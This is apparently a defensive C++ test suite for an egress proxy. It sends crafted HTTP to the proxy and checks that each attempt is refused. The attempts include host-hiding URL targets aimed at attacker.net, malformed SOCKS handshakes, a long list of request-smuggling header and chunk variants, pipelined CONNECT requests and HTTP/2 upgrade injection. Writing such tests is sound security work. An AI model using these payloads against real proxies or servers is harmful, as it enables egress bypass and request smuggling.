// The attack: plain HTTP that says one thing to the proxy and another to the origin — a target that
// hides its host, a body whose end two readers see in different places, a second request behind an
// allowed one — or that is no HTTP at all.
// What must stop it: one strict reading of every head and chunk (helpers/net), a decision for each
// request, and a head that is written anew for the origin (helpers/egress-proxy).
#include "attack/http_attack.hpp"

namespace awf::attack {
namespace {

using test_world::WebRequest;
using testing::Each;
using testing::Field;
using testing::IsEmpty;
using testing::Not;

INSTANTIATE_TEST_SUITE_P(Callers, HttpAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

TEST_P(HttpAttack, HTTP_01_targets_that_hide_their_host_reach_nobody) {
  const auto result = run_python(std::string(kPrelude) + kHttp + R"(
for target in ['http://attacker.net/', 'http://example.org@attacker.net/', '//attacker.net/',
               'http://attacker.net\\@example.org/', 'http://example.org\\@attacker.net/',
               'http://attacker.net#example.org/', 'http://attacker.net?@example.org/',
               'http://example.org#@attacker.net/', 'http:attacker.net', 'http:///attacker.net/',
               'https://example.org/', 'ftp://example.org/', 'attacker.net:80', '*',
               'http://example.org:80:80/', 'http://[example.org]/', 'http://example.org%2f@attacker.net/',
               'http://example.org\0.attacker.net/', 'http://example.org\t.attacker.net/']:
    for host in ['example.org', 'attacker.net']:
        for name, address, _ in doors:
            got = statuses(talk(address, f'GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n'))
            ok = len(got) == 1 and got[0] in ('400', '403', '421')
            # To the intercepted host itself '//x' is a path, and its Host field was right.
            ok = ok or (name, target, host) == ('intercept', '//attacker.net/', 'example.org')
            if not ok: print('OPEN', name, repr(target), host, got)
print('done')
)");
  EXPECT_EQ(result.output, "done\n") << result;
  for (const auto& request : world.web_requests()) {
    EXPECT_EQ(request.host, "example.org");
    EXPECT_EQ(request.target, "//attacker.net/");
  }
  EXPECT_THAT(world.packets_to_others({"93.184.216.34", "2606:2800:220:1::1"}), IsEmpty());
}

TEST_P(HttpAttack, HTTP_03_socks_at_the_proxy_door_is_refused_and_does_no_harm) {
  const auto result = run_python(std::string(kPrelude) + kHttp + R"(
def domain(name): return b'\x03' + bytes([len(name)]) + name + b'\x00\x50'
greeting = b'\x05\x01\x00'
for data in [greeting, b'\x05\x02\x00\x02', b'\x05\x00',
             greeting + b'\x05\x01\x00' + domain(b'attacker.net'),
             greeting + b'\x05\x01\x00' + domain(b'attacker.net\x00.example.org'),
             greeting + b'\x05\x01\x00' + domain(b'example.org\r\nattacker.net'),
             greeting + b'\x05\x01\x00' + domain(b'attacker.net%00.example.org'),
             greeting + b'\x05\x01\x00\x01' + bytes([198, 41, 30, 7]) + b'\x00\x50',
             greeting + b'\x05\x01\x00\x04' + bytes(16) + b'\x00\x50',
             greeting + b'\x05\x02\x00' + domain(b'example.org'),
             greeting + b'\x05\x03\x00\x01' + bytes(4) + b'\x00\x35',
             b'\x04\x01\x00\x50\x00\x00\x00\x01user\x00attacker.net\x00',
             b'\x04\x01\x00\x50' + bytes([198, 41, 30, 7]) + b'\x00']:
    answer = talk(proxy, data)
    if not answer.startswith(b'HTTP/1.1 400 ') or data[:1] in answer: print('OPEN', data, answer)
print(statuses(talk(proxy, 'GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n')))
)");
  EXPECT_EQ(result.output, "['200']\n") << result;
  expect_nothing_smuggled();
}

// Each pair of fields and body ends in a request that only a reader who sees the body's end too
// early, or does not see the body at all, would take for one.
constexpr const char* kSmuggling = R"(
hidden = 'GET /smuggled HTTP/1.1\r\nHost: attacker.net\r\n\r\n'
size = f'{len(hidden):x}'
te, cl = 'Transfer-Encoding: chunked\r\n', f'Content-Length: {len(hidden)}\r\n'
end = '0\r\n\r\n'
refused = [
    ('Content-Length: 5\r\n' + te, end + hidden), (te + 'Content-Length: 5\r\n', end + hidden),
    (te + cl, end + hidden), (te + te, end + hidden), (te + 'Transfer-Encoding: x\r\n', end + hidden),
    ('Transfer-Encoding: x, chunked\r\n', end + hidden), ('Transfer-Encoding: chunked, x\r\n', end + hidden),
    ('Transfer-Encoding: xchunked\r\n', end + hidden), ('Transfer-Encoding : chunked\r\n', end + hidden),
    ('Transfer-Encoding:\x0bchunked\r\n', end + hidden), ('Transfer-Encoding: "chunked"\r\n', end + hidden),
    ('Transfer-Encoding:\r\n chunked\r\n', end + hidden), ('Transfer_Encoding: chunked\r\n', end + hidden),
    ('X: y\rTransfer-Encoding: chunked\r\n', end + hidden), ('X: y\nTransfer-Encoding: chunked\r\n', end + hidden),
    (cl + cl, hidden), (cl + 'Content-Length: 0\r\n', hidden), ('Content-Length: 0\r\n' + cl, hidden),
    (f'Content-Length: 0, {len(hidden)}\r\n', hidden), (f'Content-Length: +{len(hidden)}\r\n', hidden),
    (f'Content-Length: 0{len(hidden)}\r\n', hidden), (f'Content-Length: 0x{size}\r\n', hidden),
    (f'Content-Length: {len(hidden)}.0\r\n', hidden), (f'Content-Length: -{len(hidden)}\r\n', hidden),
    (f'Content-Length : {len(hidden)}\r\n', hidden), (f'Content-Length:\r\n {len(hidden)}\r\n', hidden),
    ('Content-Length: 18446744073709551616\r\n', hidden), (f'Content_Length: {len(hidden)}\r\n', hidden),
    (te, f'{size};a=b\r\n{hidden}\r\n{end}'), (te, f'{size};\n{hidden}\r\n{end}'),
    (te, f'{size}\n{hidden}\r\n{end}'), (te, f'{size}\r{hidden}\r\n{end}'), (te, f'{size} \r\n{hidden}\r\n{end}'),
    (te, f'0x{size}\r\n{hidden}\r\n{end}'), (te, f'+{size}\r\n{hidden}\r\n{end}'), (te, f'-1\r\n{hidden}\r\n{end}'),
    (te, f'{size}\r\n{hidden}{end}'), (te, f'{size}\r\n{hidden}\n{end}'), (te, f'{size}\r\n{hidden}xx{end}'),
    (te, f'1{"0" * 16}{size}\r\n{hidden}\r\n{end}'), (te, '0\n\n' + hidden), (te, '0\r\n\n' + hidden),
    (te, '0\r\nX-Trailer: y\r\n\r\n' + hidden), (te, '0\r\nContent-Length: 1\r\n\r\n' + hidden),
    ('Expect: 200-ok\r\n' + cl, hidden), ('Expect: y 100-continue\r\n' + cl, hidden),
    ('Expect: 100-continue\r\nExpect: x\r\n' + cl, hidden),
]
framed = [(cl, hidden), ('Content-Length: 0\r\n', hidden), ('', hidden), (te, f'{size}\r\n{hidden}\r\n{end}'),
          (te, end + hidden), ('Expect: 100-continue\r\n' + cl, hidden)]
)";

TEST_P(HttpAttack, HTTP_04_no_second_request_is_smuggled_in_a_body) {
  const auto result = run_python(std::string(kPrelude) + kHttp + kSmuggling + R"(
for name, address, base in doors:
    for fields, body in refused:
        got = statuses(talk(address, f'POST {base}/echo HTTP/1.1\r\nHost: example.org\r\n{fields}\r\n{body}'))
        if len(got) != 1 or got[0] not in ('400', '417', 'RESET'): print('OPEN', name, repr(fields), repr(body[:20]), got)
    for method in ['POST', 'GET']:
        for fields, body in framed:
            got = statuses(talk(address, f'{method} {base}/echo HTTP/1.1\r\nHost: example.org\r\n{fields}\r\n{body}'))
            # What stands behind the body is a request of its own, and is refused as such.
            if any(code not in ('200', '100', '400', '421') for code in got) or '200' not in got:
                print('OPEN', name, method, repr(fields), got)
    got = statuses(talk(address, f'POST {base}/echo HTTP/1.0\r\nHost: example.org\r\n{te}\r\n{end}{hidden}'))
    if got != ['400']: print('OPEN', name, 'HTTP/1.0', got)
print('done')
)");
  EXPECT_EQ(result.output, "done\n") << result;
  expect_nothing_smuggled();
  EXPECT_THAT(world.web_requests(), Not(IsEmpty()));
}

TEST_P(HttpAttack, HTTP_06_an_allowed_request_does_not_open_its_connection_for_others) {
  const auto result = run_python(std::string(kPrelude) + kHttp + R"(
good = {'proxy': 'GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n',
        'intercept': 'GET / HTTP/1.1\r\nHost: example.org\r\n\r\n'}
bad = {'proxy': ['GET http://attacker.net/smuggled HTTP/1.1\r\nHost: attacker.net\r\n\r\n',
                 'GET http://example.org/smuggled HTTP/1.1\r\nHost: attacker.net\r\n\r\n',
                 'GET /smuggled HTTP/1.1\r\nHost: example.org\r\n\r\n',
                 'CONNECT attacker.net:443 HTTP/1.1\r\nHost: attacker.net:443\r\n\r\n',
                 'CONNECT example.org:22 HTTP/1.1\r\nHost: example.org:22\r\n\r\n'],
       'intercept': ['GET /smuggled HTTP/1.1\r\nHost: attacker.net\r\n\r\n',
                     'GET http://attacker.net/smuggled HTTP/1.1\r\nHost: attacker.net\r\n\r\n',
                     'GET http://attacker.net/smuggled HTTP/1.1\r\nHost: example.org\r\n\r\n',
                     'CONNECT attacker.net:443 HTTP/1.1\r\nHost: attacker.net:443\r\n\r\n']}
def one_after_another(address, requests):
    s = socket.create_connection(address, 10)
    s.settimeout(10)
    codes = []
    for request in requests:
        s.sendall(request.encode())
        head = b''
        while b'\r\n\r\n' not in head:
            piece = s.recv(1)
            if not piece: return codes + ['closed']
            head += piece
        length = [line.split(b':')[1] for line in head.split(b'\r\n') if line.lower().startswith(b'content-length')]
        for _ in range(int(length[0])): s.recv(1)
        codes.append(head.split(b' ')[1].decode())
    return codes
for name, address, _ in doors:
    for request in bad[name]:
        pipelined = statuses(talk(address, good[name] * 2 + request + good[name]))
        stepwise = one_after_another(address, [good[name], request])
        if pipelined[:2] != ['200', '200'] or len(pipelined) != 3 or pipelined[2] not in ('400', '403', '421') \
                or stepwise not in (['200', '400'], ['200', '403'], ['200', '421']):
            print('OPEN', name, repr(request), pipelined, stepwise)
print('done')
)");
  EXPECT_EQ(result.output, "done\n") << result;
  expect_nothing_smuggled();
}

TEST_P(HttpAttack, HTTP_07_TLS_09_hop_by_hop_fields_and_upgrades_stop_at_the_proxy) {
  const auto result = run_python(std::string(kPrelude) + kHttp + R"(
for name, address, base in doors:
    answer = talk(address, f'GET {base}/headers HTTP/1.1\r\nHost: example.org\r\nAuthorization: Bearer x\r\n'
                  'Connection: Authorization, Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nTE: trailers\r\n'
                  'HTTP2-Settings: AAMAAABkAAQAAP__\r\nProxy-Authorization: Basic x\r\nX-Kept: yes\r\n\r\n')
    for word in [b'Authorization', b'h2c', b'HTTP2', b'trailers', b'Basic']:
        if word in answer: print('OPEN', name, word)
    if b'X-Kept: yes' not in answer: print('LOST', name, answer)
    preface = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
    for start in [b'', f'GET {base}/ HTTP/1.1\r\nHost: example.org\r\n\r\n'.encode()]:
        got = statuses(talk(address, start + preface))
        if got[-1:] != ['400']: print('OPEN', name, 'h2 preface', got)
got = statuses(talk(proxy, b'CONNECT example.org:80 HTTP/1.1\r\nHost: example.org:80\r\n\r\n' + preface))
print(got)
)");
  EXPECT_EQ(result.output, "['200', '400']\n") << result;
  EXPECT_THAT(world.web_requests(), Each(Field(&WebRequest::protocol, "HTTP/1.1")));
  expect_nothing_smuggled();
}

// Without rules on paths nothing is decided by them: the origin gets the very bytes that were sent.
TEST_P(HttpAttack, HTTP_08_a_path_is_forwarded_as_it_was_sent_or_refused) {
  const auto result = run_python(std::string(kPrelude) + kHttp + R"(
for name, address, base in doors:
    for path in ['/a/../b', '/a/%2e%2e/b', '/%252e%252e/b', '/a%2fb', '/a;x=1/b', '/a//b', '/?a=1&a=2', '/./b']:
        statuses(talk(address, f'GET {base}{path} HTTP/1.1\r\nHost: example.org\r\nX-HTTP-Method-Override: DELETE\r\n\r\n'))
    for path in ['/a\\b', '/a#b', '/a b', '/a\tb', '/\xe4', '/a\x7fb']:
        got = statuses(talk(address, f'GET {base}{path} HTTP/1.1\r\nHost: example.org\r\n\r\n'))
        if got != ['400']: print('OPEN', name, repr(path), got)
print('done')
)");
  EXPECT_EQ(result.output, "done\n") << result;
  std::vector<std::string> targets;
  for (const auto& request : world.web_requests())
    targets.push_back(request.method + " " + request.target);
  std::vector<std::string> expected;
  for (int door = 0; door < 2; ++door) {
    for (const char* path : {"/a/../b", "/a/%2e%2e/b", "/%252e%252e/b", "/a%2fb", "/a;x=1/b",
                             "/a//b", "/?a=1&a=2", "/./b"}) {
      expected.push_back(std::string("GET ") + path);
    }
  }
  EXPECT_EQ(targets, expected);
}

TEST_P(HttpAttack, HTTP_09_HTTP_12_plain_http_is_judged_as_tls_is_and_told_in_fixed_words) {
  const auto result = run_python(std::string(kPrelude) + kHttp + R"(
import json
for request in ['GET http://attacker.net/?token=secret HTTP/1.1\r\nHost: attacker.net\r\nAuthorization: secret\r\n\r\n',
                'CONNECT attacker.net:80 HTTP/1.1\r\nHost: secret\r\n\r\n', 'CONNECT attacker.net:443 HTTP/1.1\r\nHost: secret\r\n\r\n']:
    head, _, body = talk(proxy, request).partition(b'\r\n\r\n')
    told = json.loads(body)
    print(head.split(b' ')[1].decode(), told['error'], told['rule'], told['request'], b'secret' in head + body, len(body) < 300)
)",
                                 "example.org,https://github.com");
  EXPECT_EQ(result.output,
            "403 denied default --allow-domains attacker.net False True\n"
            "403 denied default --allow-domains attacker.net False True\n"
            "403 denied default --allow-domains attacker.net False True\n")
      << result;
  EXPECT_THAT(world.packets(), IsEmpty());
}

}  // namespace
}  // namespace awf::attack
